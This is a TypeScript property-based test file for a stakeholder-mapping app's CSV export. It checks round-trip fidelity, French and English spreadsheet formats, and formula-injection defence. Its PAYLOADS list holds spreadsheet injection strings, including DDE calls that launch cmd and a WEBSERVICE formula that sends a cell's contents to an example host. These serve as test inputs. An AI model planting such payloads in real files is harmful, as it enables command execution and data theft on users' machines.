/** Promises 29 and 39, and acceptance scenario 18: what leaves in a file comes back as it was, and cannot attack a spreadsheet. */
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Account, Evidence, Link, newStakeholder, Stakeholder, Target } from '#contract/entities'
import type { ExportData } from '#contract/export-data'
import { newId } from '#contract/ids'
import { FAMILIES, GRADES, LINK_KIND_NAMES, type Platform, RATE_BASES, STAKEHOLDER_KINDS } from '#contract/words'
import { Findings } from '../../server/exchange/findings'
import { isDangerous } from '../../server/exchange/formula-guard'
import { normaliseHandle } from '#contract/handles'
import { tierOf } from '../../server/exchange/list-columns'
import { readRecords } from '../../server/exchange/records'
import { readTable } from '../../server/exchange/table'
import { writeTable } from '../../server/exchange/write-table'
import { ProjectInMemory } from './project-in-memory'

const awkward = ['=', '+', '-', '@', '\'', '"', ';', ',', '|', '\\', '%', '＝', ' ', '\u00a0', 'a', 'é', 'e\u0301', '1', '.', '🙂', '👩‍👩‍👧', '\u202e', '\u200b', '\ufeff', 'ا', '가', 'NA', 'Z͑ͫ̓', '\t', '\n', '\r\n', '\r']
const anyText = fc.oneof({ weight: 3, arbitrary: fc.string({ unit: fc.constantFrom(...awkward), maxLength: 10 }) }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 10 }) })
const valid = <T>(schema: { safeParse(x: unknown): { success: true, data: T } | { success: false } }, x: unknown): T | null => { const r = schema.safeParse(x); return r.success ? r.data : null }
/** strings as the model keeps them; a text of blanks alone counts as empty everywhere in files */
const text = anyText.filter(s => s.trim() !== '' || s === '')
const name = anyText
const opt = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: null })
const whole = (min: number, max: number) => opt(fc.integer({ min, max }))
const day = fc.date({ min: new Date('1950-01-01'), max: new Date('2050-01-01'), noInvalidDate: true }).map(d => d.toISOString().slice(0, 10))
const decimal = (max: number) => opt(fc.oneof(fc.double({ min: 0, max, noNaN: true }), fc.constantFrom(...[0, 0.001, 1.234, 12.5, 1e-7, 1.5e-7].filter(x => x <= max))).map(x => x === 0 ? 0 : x))
const stakeholder = fc.record({
  name, kind: fc.constantFrom(...STAKEHOLDER_KINDS), family: opt(fc.constantFrom(...FAMILIES)), ref: opt(name), role: text, place: text, description: text, notes: text, aliases: fc.array(name, { maxLength: 3 }), tags: fc.array(name, { maxLength: 3 }),
  ring: whole(0, 3), stance: whole(-2, 2), stage: whole(0, 4), relevance: whole(0, 5), legitimacy: whole(0, 5), cost: decimal(1e9), doNotContact: fc.boolean(), minor: fc.boolean(), community: fc.constant(null)
}).map(x => valid(Stakeholder, x)).filter(x => x !== null)
const handleOf: [Platform, string][] = [['instagram', 'Maison.Lumen'], ['x', 'LaboVert'], ['youtube', 'LumenTV'], ['youtube', 'UCabcdefghijklmnopqrstuv'], ['linkedin', 'company/lumen'], ['site', 'lumen.example'], ['mastodon', 'lumen@social.example'], ['tiktok', 'lumen_fr'], ['facebook', '100099'], ['podcast', 'Peau neuve'], ['newsletter', 'lumen.substack.com']]
const audience = fc.record({ followers: whole(0, 1e10), engagementRate: decimal(100), engagementBase: opt(fc.constantFrom(...RATE_BASES)), authenticity: decimal(1), observedAt: opt(day), withUrl: fc.boolean() })
const linkFields = fc.record({
  a: fc.nat(), b: fc.nat(), kind: fc.constantFrom(...LINK_KIND_NAMES), directed: fc.boolean(), strength: fc.integer({ min: 1, max: 5 }), sign: fc.constantFrom(1 as const, -1 as const), count: decimal(1e15).map(x => x === 0 ? null : x),
  confidence: opt(fc.constantFrom(...GRADES)), since: opt(day), until: opt(day), note: text, ref: opt(name)
})

const project = fc.record({ people: fc.array(stakeholder, { minLength: 2, maxLength: 8 }), accounts: fc.array(audience, { maxLength: 8 }), links: fc.array(linkFields, { maxLength: 8 }) }).map(({ people, accounts, links }) => {
  const p = new ProjectInMemory(), refs = new Set<string>(), ids: string[] = []
  for (const s of people) {
    if (s.ref !== null && (refs.has(s.ref) || /^(?:NA|-)$/.test(s.ref))) continue
    if (s.ref !== null) refs.add(s.ref)
    const id = newId()
    ids.push(id); p.stakeholders.set(id, s)
  }
  accounts.forEach((a, i) => {
    const who = ids[i % Math.max(1, ids.length)], [platform, handle] = handleOf[i % handleOf.length] as [Platform, string], n = normaliseHandle(handle, platform)
    if (who === undefined || n === null || i >= ids.length) return
    const { withUrl, ...known } = a
    p.accounts.set(newId(), Account.parse({ ...known, stakeholderId: who, platform, handle: n.handle, key: n.key, url: withUrl ? n.url : null }))
  })
  const linkRefs = new Set<string>()
  for (const { a, b, ...l } of links) {
    const source = ids[a % ids.length], target = ids[b % ids.length]
    const link = source === undefined || target === undefined || source === target ? null : valid(Link, { ...l, source, target })
    if (link === null || (link.ref !== null && linkRefs.has(link.ref))) continue
    if (link.ref !== null) linkRefs.add(link.ref)
    p.links.set(newId(), link)
  }
  return p
})
const filesOf = (p: ProjectInMemory, lang: 'fr' | 'en') => [
  { name: 'acteurs.csv', bytes: writeTable('stakeholders', p.exported(), lang), options: {} },
  ...(p.links.size > 0 ? [{ name: 'liens.csv', bytes: writeTable('links', p.exported(), lang), options: {} }] : [])
]

describe('a list that leaves and comes back', () => {
  test.each(['fr', 'en'] as const)('changes nothing in its own project (%s), in 400 random projects', lang => {
    fc.assert(fc.property(project, p => {
      if (p.stakeholders.size === 0) return
      const plan = p.plan(filesOf(p, lang), {}, lang)
      expect(plan.rejected).toEqual([])
      expect(plan.changes).toBe(0)
    }), { numRuns: 400 })
  })
  test.each(['fr', 'en'] as const)('makes the same project elsewhere (%s)', lang => {
    fc.assert(fc.property(project, p => {
      if (p.stakeholders.size === 0) return
      // elsewhere, our ids become the identifiers that the file gave
      for (const map of [p.stakeholders, p.links] as Map<string, { ref: string | null }>[]) for (const [id, v] of map) map.set(id, { ...v, ref: v.ref ?? id })
      const other = new ProjectInMemory(), plan = other.take(filesOf(p, lang), {}, lang)
      expect(plan.rejected).toEqual([])
      expect(other.content()).toEqual(p.content())
    }), { numRuns: 150 })
  })
  test('keeps 10,000 texts exactly', () => {
    let seen = 0
    fc.assert(fc.property(fc.array(text, { minLength: 50, maxLength: 50 }), texts => {
      const p = new ProjectInMemory(), kept = texts.map(t => valid(Stakeholder, newStakeholder('X', { description: t }))).filter(s => s !== null)
      for (const s of kept) p.stakeholders.set(newId(), s)
      if (kept.length === 0) return
      const table = readTable({ name: 'a.csv', bytes: writeTable('stakeholders', p.exported(), 'fr'), options: {} }, new Findings('fr'))
      const at = table?.header.indexOf('Description') ?? -1
      expect(table?.rows.map(r => r[at])).toEqual(kept.map(s => s.description))
      seen += kept.length
    }), { numRuns: 300 })
    expect(seen).toBeGreaterThan(10_000)
  })
  test('carries every further account of a stakeholder', () => {
    const p = new ProjectInMemory(), id = newId()
    p.stakeholders.set(id, newStakeholder('Lumen', { ref: 'lumen' }))
    const put = (platform: Platform, handle: string, followers: number | null) => { const n = normaliseHandle(handle, platform); if (n !== null) p.accounts.set(newId(), { stakeholderId: id, platform, handle: n.handle, key: n.key, url: n.url, followers, engagementRate: null, engagementBase: null, authenticity: null, observedAt: null }) }
    put('instagram', 'lumen', 5_000); put('x', 'lumen_a', null); put('x', 'lumen_b', null); put('youtube', 'UCabcdefghijklmnopqrstuv', null); put('site', 'lumen.example', null); put('facebook', 'groups/lumen', null)
    const files = filesOf(p, 'fr'), other = new ProjectInMemory()
    expect(p.plan(files).changes).toBe(0)
    other.take(files)
    expect(other.content()).toEqual(p.content())
  })
})

const PAYLOADS = [
  '=1+1', '=HYPERLINK("http://x.example","clic")', '=cmd|\'/c calc\'!A1', '+cmd|\'/c calc\'!A1', '-2+3+cmd|\'/c calc\'!A1', '@SUM(1+1)*cmd|\'/c calc\'!A1', '=WEBSERVICE("http://x.example/"&A1)', '=IMPORTXML("http://x.example","//a")', '=DDE("cmd";"/c calc";"x")', '=MSEXCEL|\'\\..\\..\\cmd.exe\'!A1',
  '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\ufeff=1+1', '\u200b=1+1', '＝1+1', '＋1', '－1+2', '＠SUM(1)', '|calc', '%0A=1+1', '\'=1+1', '\'\'=1+1', '"=1+1', '";=1+1', ';=1+1', ',=1+1', '"\r\n=1+1', '=1+1;=2+2', '+33612345678', '-note', '- note', '-', '--1', '@handle', '=', '+', '-1-1'
]
describe('an exported list', () => {
  test(`leaves none of ${PAYLOADS.length} payloads as a formula, and brings each back`, () => {
    expect(PAYLOADS.length).toBe(40)
    for (const lang of ['fr', 'en'] as const) {
      const p = new ProjectInMemory()
      PAYLOADS.forEach((payload, i) => { p.stakeholders.set(newId(), Stakeholder.parse(newStakeholder(payload, { ref: `r${i}`, description: payload, tags: [`${payload}x`], notes: payload }))) })
      const bytes = writeTable('stakeholders', p.exported(), lang)
      const { cells } = readRecords(Buffer.from(bytes).toString('utf8').slice(1), lang === 'fr' ? ';' : ',', { maxCell: 40_000 })
      for (const cell of cells.flat()) expect(isDangerous(cell) && !cell.startsWith('\''), JSON.stringify(cell)).toBe(false)
      expect(p.plan([{ name: 'a.csv', bytes, options: {} }]).changes).toBe(0)
    }
  })
  test('is what French spreadsheets expect: BOM, semicolons, CRLF, decimal comma, day first, no sep= line', () => {
    const data = sample()
    const text = Buffer.from(writeTable('targets', data, 'fr')).toString('utf8'), lines = text.slice(1).split('\r\n')
    expect(text.charCodeAt(0)).toBe(0xfeff)
    expect(Buffer.from(writeTable('targets', data, 'fr')).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    expect(lines[0]).toBe('"Priorité";"Nom";"Type";"Famille";"Communauté";"Plateforme principale";"Identifiant";"URL";"Abonnés";"Palier";"Taux d’engagement (%)";"Base du taux";"Authenticité";"Pertinence (0-5)";"Légitimité (0-5)";"Position (centile)";"Position vis-à-vis de la marque (−2…+2)";"Stade de relation";"Rôle";"Pourquoi (FR)";"Action proposée";"Responsable";"Échéance";"Statut";"Coût moyen";"Ne pas contacter";"Sources";"Identifiant interne"')
    expect(lines[1]).toBe('"1";"Élise Marin";"Personne";"Créateur de contenu";"Peaux sensibles";"Instagram";"\'@elise";"https://www.instagram.com/elise";"12500";"micro";"3,4";"Abonnés";"0,85";"4";"";"97,5";"-1";"2";"";"parle ""vrai""";"\'- appeler";"Nora";"31/12/2026";"À contacter";"1234,5";"non";"Enquête – Revue Exemple – https://revue.example/1";"e1"')
    expect(lines[2]).toBe('')
  })
  test('is what English ones expect: commas, decimal point, ISO days; identifiers first', () => {
    const data = sample()
    expect(Buffer.from(writeTable('links', data, 'en')).toString('utf8')).toBe('\ufeff"Source Id","Target Id","Source","Target","Kind","Direction","Strength (1-5)","Sign","Count","Confidence","Evidence","Valid from","to","Note","Id"\r\n' +
      '"e1","b2","Élise Marin","Lumen","Opposes","Directed","3","-1","2.5","B","","2026-01-31","","","l1"\r\n')
    expect(Buffer.from(writeTable('stakeholders', data, 'en')).toString('utf8').slice(1).startsWith('"Id","Name","Type","Family",')).toBe(true)
    expect(Buffer.from(writeTable('targets', data, 'en')).toString('utf8')).toContain('"2026-12-31","To contact","1234.5"')
  })
  test('names the tier of an audience, lower bound included', () => {
    expect([999, 1_000, 9_999, 10_000, 49_999, 50_000, 499_999, 500_000, 999_999, 1_000_000].map(n => tierOf(n, 'fr'))).toEqual(['émergent', 'nano', 'nano', 'micro', 'micro', 'intermédiaire', 'intermédiaire', 'macro', 'macro', 'méga'])
    expect(tierOf(50_000, 'en')).toBe('mid-tier')
  })
})

const sample = (): ExportData => {
  const [elise, lumen] = [newId(), newId()]
  return {
    project: { id: newId(), name: 'Test', rev: 1 }, day: '2026-01-31',
    stakeholders: [{ ...newStakeholder('Élise Marin', { kind: 'person', family: 'creator', ref: 'e1', relevance: 4, stance: -1, stage: 2, cost: 1234.5 }), id: elise }, { ...newStakeholder('Lumen', { kind: 'brand', ref: 'b2' }), id: lumen }],
    accounts: [{ id: newId(), ...Account.parse({ stakeholderId: elise, platform: 'instagram', handle: '@elise', key: 'elise', url: 'https://www.instagram.com/elise', followers: 12_500, engagementRate: 3.4, engagementBase: 'followers', authenticity: 0.85, observedAt: null }) }],
    links: [{ id: newId(), ...Link.parse({ source: elise, target: lumen, kind: 'opposes', directed: true, strength: 3, sign: -1, count: 2.5, confidence: 'B', since: '2026-01-31', until: null, note: '', ref: 'l1' }) }],
    evidence: [{ id: newId(), ...Evidence.parse({ subject: 'stakeholder', subjectId: elise, title: 'Enquête', quote: '', url: 'https://revue.example/1', publisher: 'Revue Exemple', date: null, grade: 'A', supports: '' }) }],
    targets: [{ id: newId(), ...Target.parse({ stakeholderId: elise, priority: 1, reason: 'parle "vrai"', owner: 'Nora', status: 'to_contact', due: '2026-12-31', action: '- appeler' }) }],
    communities: { [elise]: 'Peaux sensibles' }, positions: { [elise]: 97.5 }
  }
}
